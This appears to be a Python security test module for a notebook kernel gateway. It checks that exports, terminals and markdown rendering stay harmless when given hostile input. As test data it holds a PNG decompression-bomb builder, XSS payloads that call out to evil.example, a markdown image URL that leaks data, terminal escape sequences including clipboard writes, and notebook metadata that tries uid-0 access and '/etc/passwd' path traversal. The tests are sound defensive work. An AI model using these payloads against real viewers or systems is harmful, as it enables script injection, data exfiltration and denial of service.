"""Outputs and notebooks in the hands of people: terminals, browsers, the model."""

# Cells are one string each.
# ruff: noqa: E501

from __future__ import annotations

import base64
import json
import struct
import zlib

from kernel_gateway.agent.pictures import Pictures, image_block
from kernel_gateway.notebook.export import export
from kernel_gateway.session.files import put
from kernel_gateway.supervisor.client import connect
from kernel_gateway.terminal import clean_text
from tests.notebook.test_html import Elements, assert_harmless

from ..arena import Arena
from .files import cli

__all__ = ["markdown_phones_home", "notebook_is_data", "picture_bombs", "scripts_in_outputs", "terminal_escapes"]


def bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG of a few KB that claims, and would take, gigabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1 << 20)))
        + chunk(b"IEND", b"")
    )


async def picture_bombs(arena: Arena) -> None:
    """By the header, before anybody decodes: neither the model nor a reader of the page gets it."""

    async def convert(code: str, data: bytes) -> bytes:
        raise AssertionError("it was decoded")

    for data in (
        bomb(),
        b"GIF89a" + struct.pack("<HH", 60_000, 60_000),
        b"RIFF\x00\x00\x00\x00WEBPVP8X" + bytes(8) + b"\xff" * 6,
    ):
        (block,), sent = await Pictures(convert).prepare([image_block("image/png", data)], "cell 1")
        assert (block["type"], sent) == ("text", [])
    encoded = base64.b64encode(bomb()).decode()
    async with arena.own() as session:
        (arena.data / "bomb.png").write_bytes(bomb())
        put(session.folder, arena.data / "bomb.png")
        await session.python("import base64; b = base64.b64encode(open('bomb.png', 'rb').read()).decode()")
        await session.python("display({'image/png': b, 'text/plain': 'bomb'}, raw=True)")
        page = export(session.folder, "html", arena.data / "bomb.html").path.read_text()
        assert encoded not in page
        assert "50000 x 50000 pixels" in page
        await session.client.notebook()
        assert not list(session.folder.pictures.iterdir())


HOSTILE = (
    '<script>fetch("//evil.example/a")</script><img src=x onerror=alert(1)><meta http-equiv=refresh content="0;//evil.example">'
    '<form action="//evil.example"><button>x</button></form><link rel=preconnect href="//evil.example"><iframe src="//evil.example"></iframe>'
    '</iframe></pre></style><svg onload=alert(1)><script>alert(2)</script></svg><a href="javascript:alert(3)">x</a>'
    '<img src="//evil.example/pixel.png"><style>@import "//evil.example/x.css";body{background:url(//evil.example/y)}</style>'
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)"><script>alert(1)</script>'
    '<foreignObject><iframe src="//evil.example"/></foreignObject><image xlink:href="//evil.example/x.png"/><rect width="9" height="9"/></svg>'
)


async def scripts_in_outputs(arena: Arena) -> None:
    async with arena.own() as session:
        for data in (
            {"text/html": HOSTILE, "text/plain": HOSTILE},
            {"application/javascript": "fetch('//evil.example')", "text/plain": "</script>"},
            {"image/svg+xml": SVG},
            {"text/html": HOSTILE, "image/svg+xml": SVG},
            {"application/json": {"x": "</script><script>alert(1)</script>"}},
            {"text/latex": "$\\href{javascript:alert(1)}{x}$" + "\\def\\x{\\x\\x}\\x" * 10},
            {"text/markdown": HOSTILE},
        ):
            await session.python(f"display({data!r}, raw=True)")
        page = export(session.folder, "html", arena.data / "scripts.html").path.read_text()
        assert_harmless(page)
        policy = next(a["content"] for _, a in Elements(page).found if a.get("http-equiv") == "Content-Security-Policy")
        assert policy and policy.startswith("default-src 'none'; ") and "http" not in policy
        await session.client.notebook()
        for path in session.folder.pictures.iterdir():
            content = path.read_text("utf-8", "replace")
            assert "script" not in content and "onload" not in content and "evil" not in content, path


async def terminal_escapes(arena: Arena) -> None:
    hostile = "\x1b]52;c;aGk=\x07\x1b]0;title\x07\x1b[2J\x1b]8;;file:///etc\x1b\\x\x9b2J\x90q\x1b[8mhidden\u202e\r\x1bP+q\x1b\\\x1b[6n"
    async with arena.own() as session:
        result = await session.python(f"print({hostile!r}); raise ValueError({hostile!r})")
        for text in (result.stdout, result.evalue or ""):
            assert "\x1b" not in clean_text(text, colour=False)
        name = session.folder.id
        done = cli(arena, "run", "--session", name, "-c", f"print({hostile!r}); raise ValueError({hostile!r})")
        if done.returncode == 2:
            done = cli(arena, "run", name, f"print({hostile!r}); raise ValueError({hostile!r})")
        written = done.stdout + done.stderr
        assert b"title" in written, written
        for sequence in (b"\x1b]", b"\x1b[2J", b"\x1bP", b"\x1b[8m", b"\x1b[6n", b"\x07", b"\xc2\x9b", b"\xe2\x80\xae"):
            assert sequence not in written, written


async def markdown_phones_home(arena: Arena) -> None:
    words = (
        "![a](https://evil.example/?d=secret) ![b](//evil.example/x) [x](javascript:alert(1)) [y](data:text/html,x) <img src=//evil.example>"
        "\n\n[r]: https://evil.example/z\n![r]\n\n<https://evil.example> \n\n```\n![c](//evil.example)\n```\n"
    )
    async with arena.own() as session:
        await session.client.record("words", cell="w", turn="t", text=words, model="m")
        await session.python(f"display({{'text/markdown': {words!r}}}, raw=True)")
        page = export(session.folder, "html", arena.data / "markdown.html").path.read_text()
        assert_harmless(page)
        for tag, attributes in Elements(page).found:
            # The page has one switch of its own.
            if (
                tag in ("img", "source", "video", "audio", "input", "image", "use")
                and attributes.get("type") != "checkbox"
            ):
                assert (attributes.get("src") or "").startswith("data:"), attributes


async def notebook_is_data(arena: Arena) -> None:
    """What a notebook says of policy, engine, uid or mounts is words: session.json alone counts, and no code inside reaches that."""
    async with arena.own() as session:
        before = session.folder.read()
        await session.python("print('one')")
        await session.client.notebook()
        notebook = json.loads(session.folder.notebook.read_text())
        notebook["metadata"]["kernel_gateway"] |= {
            "engine": "local",
            "policy": {"egress": "all", "memory": 1 << 60},
            "uid": 0,
            "mounts": [{"source": "/etc", "name": "etc"}],
            "inputs": [{"path": "../../../etc/passwd"}],
        }
        session.folder.notebook.write_text(json.dumps(notebook))
        await session.client.stop()
        async with connect(session.folder) as client:
            result = await client.run(
                session.request("import os; print(os.path.exists('/workspace/inputs/etc'), os.getuid())")
            )
            assert result.stdout.startswith("False")
        after = session.folder.read()
        assert {k: after[k] for k in ("engine", "policy", "uid", "mounts")} == {
            k: before[k] for k in ("engine", "policy", "uid", "mounts")
        }
        hostile = arena.data / "hostile.ipynb"
        notebook["cells"] = []
        hostile.write_text(json.dumps(notebook))
        page = export(hostile, "html").path.read_text()
        assert_harmless(page)
        assert "root:" not in page
